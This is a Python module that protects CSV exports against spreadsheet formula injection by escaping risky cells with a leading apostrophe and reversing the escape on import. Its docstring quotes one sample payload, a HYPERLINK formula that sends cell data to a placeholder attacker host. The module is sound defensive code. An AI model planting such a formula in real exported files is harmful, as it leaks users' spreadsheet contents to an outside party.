"""CSV that a spreadsheet opens as data, never as formulas (CSV injection).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with =, +, -
or @ (and, in some versions, a tab or carriage return before one) as a formula,
so a street named `=HYPERLINK("https://evil.example/?"&A1,"Markt")` in an
exported file becomes a link that leaks the sheet. As OWASP advises, such a text
cell is written with a leading apostrophe, which spreadsheets read as "this is
text" and do not show.

The escape is undone on import (`unescape_cell`), so an exported file reads back
as it was: a text that itself starts with an apostrophe is escaped too, which
makes the mapping one-to-one. Numbers are written as numbers: a negative number
is no formula, and an apostrophe would turn it into text in the spreadsheet.
"""

import csv
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def escape_cell(value):
    """The cell as a spreadsheet should see it: text that could start a formula is quoted."""
    if isinstance(value, bool) or not isinstance(value, str | int | float | Decimal):
        value = "" if value is None else str(value)
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, ESCAPE)):
        return ESCAPE + value
    return value


def unescape_cell(text: str) -> str:
    """Undo `escape_cell` for a cell read back from a CSV file."""
    if text.startswith(ESCAPE) and text[1:].startswith((*FORMULA_STARTS, ESCAPE)):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer whose every cell goes through `escape_cell`: the one way Venster writes CSV.

    Lines end in CRLF (RFC 4180), so a carriage return inside a cell is quoted too.
    """

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row):
        return self._writer.writerow([escape_cell(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
